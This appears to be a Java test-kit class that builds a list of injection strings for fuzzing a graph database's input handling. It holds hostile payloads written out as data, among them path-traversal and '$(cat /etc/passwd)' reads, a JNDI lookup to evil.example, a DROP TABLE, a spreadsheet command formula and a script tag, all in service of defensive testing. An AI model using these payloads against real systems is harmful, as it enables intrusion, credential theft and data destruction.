package dev.memorygraph.testkit.injection;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.stream.Stream;

/** What somebody sends who wants something else to be done than was asked for: 500 and more. */
public final class Injections {
  /** What is to be done, in the languages besides Cypher that may be behind a parameter. */
  private static final List<String> CORES =
      List.of(
          // Lucene
          "+tenant:beta",
          "tenant:beta OR text:secret",
          "text:/.*secret.*/",
          "[* TO *]",
          "{a TO z}",
          "secret~0.1",
          "secret^1000",
          "* AND NOT tenant:alpha",
          "(((((((((((((((((((((((((((((( secret",
          "_exists_:text",
          "a?b*c",
          // JSON and documents
          "{\"$ne\": null}",
          "{\"tenant\":\"beta\"}",
          "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
          "null",
          "true",
          "1e999",
          "{\"__proto__\":{\"tenant\":\"beta\"}}",
          // Paths and addresses
          "../../../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "/api/v1/nodes/prompt:pb",
          "beta/prompt/pb",
          "https://evil.example/x",
          // Headers and lines
          "x\r\nX-Tenant: beta",
          "x\nSet-Cookie: a=b",
          "Bearer eyJhbGciOiJub25lIn0.e30.",
          // GraphQL
          "{ __schema { types { name } } }",
          "\") { id } other: node(id: \"prompt:pb\") { id } #",
          "fragment F on Query { node { id } } ...F",
          // SQL, shells and templates
          "DROP TABLE nodes",
          "$(cat /etc/passwd)",
          "`id`",
          "${jndi:ldap://evil.example/x}",
          "{{7*7}}",
          "<script>alert(1)</script>",
          "%s%s%s%n",
          "=cmd|' /C calc'!A0");

  /** How it is got out of where it stands; {@code @} is what is to be done. */
  private static final List<String> WRAPPERS =
      List.of(
          "@",
          "' @ //",
          "\" @ //",
          "` @ //",
          "\"}) @ //",
          "') @ /*",
          "completion:c @",
          "\\ @",
          "\u0000@\u0000",
          "a,@,b");

  private Injections() {}

  /** All of them, in an order that is always the same. */
  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    Stream.concat(cypher(), CORES.stream())
        .forEach(core -> WRAPPERS.forEach(wrapper -> all.add(wrapper.replace("@", core))));
    all.addAll(characters());
    return new ArrayList<>(all);
  }

  /** In a file, since code has no statements but where they are run. */
  private static Stream<String> cypher() {
    try (InputStream file =
        Objects.requireNonNull(Injections.class.getResourceAsStream("cypher.txt"))) {
      return new String(file.readAllBytes(), StandardCharsets.UTF_8).lines();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** What is hard to handle by what it is made of. */
  private static List<String> characters() {
    return List.of(
        "",
        " ",
        "\u0000",
        "\u0001\u0002\u001b[31m",
        "\t\r\n",
        "\uD800",
        "\uDC00\uD800",
        "\uFEFF\uFFFE\uFFFF",
        "\u202Esecret",
        "\u2028\u2029",
        "ﬁ\u0301\u0301\u0301\u0301",
        "İıſK",
        "𝓼𝓮𝓬𝓻𝓮𝓽",
        "٣",
        "-1",
        "0",
        "9".repeat(400),
        "1".repeat(19),
        "NaN",
        "+999999999-12-31T23:59:59Z",
        "0000-00-00",
        "a".repeat(300),
        "ä".repeat(5_000),
        "\"".repeat(999),
        "(".repeat(999),
        "*".repeat(999),
        "a ".repeat(9_000),
        "%00",
        "%zz",
        "%C0%AE");
  }
}
